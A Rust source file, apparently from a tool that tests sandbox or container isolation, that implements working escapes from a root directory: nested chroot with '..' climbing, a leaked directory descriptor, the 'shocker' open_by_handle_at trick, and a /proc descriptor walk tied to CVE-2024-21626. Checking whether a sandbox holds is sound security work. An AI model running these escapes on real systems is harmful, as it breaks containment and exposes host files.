//! Out of a root directory: by chroot(2) within chroot(2), by descriptors
//! that were left open, by file handles, by what /proc leads to.

use std::ffi::CString;
use std::fs::{self, File};
use std::io::{self, Read};
use std::os::fd::{AsRawFd, RawFd};
use std::os::unix::fs::chroot;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU8, Ordering};

use crate::outcome::{Attempt, Failure, Prepare, refused, untried};
use crate::sys::Arg::{Bytes, N, Scratch, Shared, Text};
use crate::sys::{self};

/// A directory of the attacker's own.
pub fn workplace() -> Result<PathBuf, Failure> {
    let path = PathBuf::from(format!("/tmp/attacker-{}", std::process::id()));
    fs::create_dir_all(&path).prepare("making a directory in /tmp")?;
    Ok(path)
}

/// Up by "..", past whatever root directory is not among the parents of the
/// current one; then down to what isn't the guest's.
fn climb(path: &str) -> Attempt {
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    chroot(".")?;
    exists(path)
}

/// Opens a file by its path on the host.
pub fn exists(path: &str) -> Attempt {
    let mut text = String::new();
    File::open(path)?.read_to_string(&mut text)?;
    Ok(format!("{path} says {text:?}"))
}

/// The classic: a root directory below the current one lets ".." go on.
pub fn chroot_twice(path: &str) -> Attempt {
    let inner = workplace()?;
    std::env::set_current_dir("/").prepare("going to /")?;
    chroot(inner)?;
    climb(path)
}

/// The same by a descriptor of a directory outside of the inner root.
pub fn chroot_descriptor(path: &str) -> Attempt {
    let inner = workplace()?;
    let outer = File::open("/").prepare("opening /")?;
    chroot(&inner)?;
    std::env::set_current_dir("/").prepare("going to the inner root")?;
    sys::call(libc::SYS_fchdir, &[N(outer.as_raw_fd().into())])?;
    climb(path)
}

/// By the number of its inode ("shocker"): `handle` is a `struct file_handle`
/// in hexadecimal digits, of a file beside the guest's root directory on the
/// same file system. A real attacker counts through the numbers.
pub fn open_by_handle(handle: &str) -> Attempt {
    let digit = |n: usize| handle.get(n..n + 2).and_then(|pair| u8::from_str_radix(pair, 16).ok());
    let bytes: Option<Vec<u8>> = (0..handle.len()).step_by(2).map(digit).collect();
    let Some(bytes) = bytes else { return untried("the handle is no number") };
    let mount = File::open("/").prepare("opening /")?;
    let arguments = [N(mount.as_raw_fd().into()), Bytes(&bytes), N(0)];
    let fd = sys::call(libc::SYS_open_by_handle_at, &arguments)?;
    exists(&format!("/proc/self/fd/{fd}"))
}

/// The `struct file_handle` of a file, for [`open_by_handle`].
pub fn handle(path: &str) -> Attempt {
    /// Its size without the size and the type before it; the kernel's
    /// `MAX_HANDLE_SZ`.
    const ROOM: u8 = 128;
    let name = CString::new(path).or_else(|_| untried("a zero byte in a path"))?;
    let handle: [AtomicU8; 136] =
        std::array::from_fn(|n| AtomicU8::new(if n == 0 { ROOM } else { 0 }));
    let arguments = [N(-100), Text(&name), Shared(&handle), Scratch, N(0)];
    sys::call(libc::SYS_name_to_handle_at, &arguments).prepare("name_to_handle_at")?;
    let length = 8 + usize::from(handle[0].load(Ordering::Relaxed));
    let bytes = handle.iter().take(length).map(|byte| byte.load(Ordering::Relaxed));
    Ok(bytes.map(|byte| format!("{byte:02x}")).collect())
}

/// By descriptors and current directories of this process and of every other
/// one that can be seen (CVE-2024-21626).
pub fn descriptors(path: &str) -> Attempt {
    let mut tried = 0;
    for process in processes()? {
        for place in ["cwd", "root"] {
            tried += 1;
            reach(&process.join(place), path)?;
        }
        for entry in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
            tried += 1;
            reach(&entry.path(), path)?;
        }
    }
    refused(format!("{tried} descriptors lead nowhere"))
}

/// By the root directories of all processes that can be seen.
pub fn roots(path: &str) -> Attempt {
    let all = processes()?;
    for process in &all {
        reach(&process.join("root"), path)?;
    }
    refused(format!("the roots of {} processes are the guest's", all.len()))
}

/// `Err` is only for an escape: it ends the search.
fn reach(place: &Path, path: &str) -> Result<(), Failure> {
    let ups = "../".repeat(32);
    let text = place.to_string_lossy();
    let relative = path.trim_start_matches('/');
    for way in [format!("{text}/{relative}"), format!("{text}/{ups}{relative}")] {
        if exists(&way).is_ok() {
            println!("escaped: through {way}");
            sys::exit(0);
        }
    }
    Ok(())
}

/// The directories of all processes in /proc, the own one first.
pub fn processes() -> Result<Vec<PathBuf>, Failure> {
    let entries = fs::read_dir("/proc").prepare("reading /proc")?;
    let numbers = |name: &str| name.bytes().all(|byte| byte.is_ascii_digit());
    let names = entries.flatten().filter(|entry| numbers(&entry.file_name().to_string_lossy()));
    let own = PathBuf::from("/proc/self");
    Ok(std::iter::once(own).chain(names.map(|entry| entry.path())).collect())
}

/// Opens without waiting for anybody.
pub fn open(path: &Path, flags: i32) -> io::Result<RawFd> {
    let text = CString::new(path.as_os_str().as_encoded_bytes())?;
    let flags = flags | libc::O_NONBLOCK | libc::O_NOCTTY;
    let fd = sys::call(libc::SYS_openat, &[N(-100), Text(&text), N(flags.into()), N(0)])?;
    Ok(fd as RawFd)
}
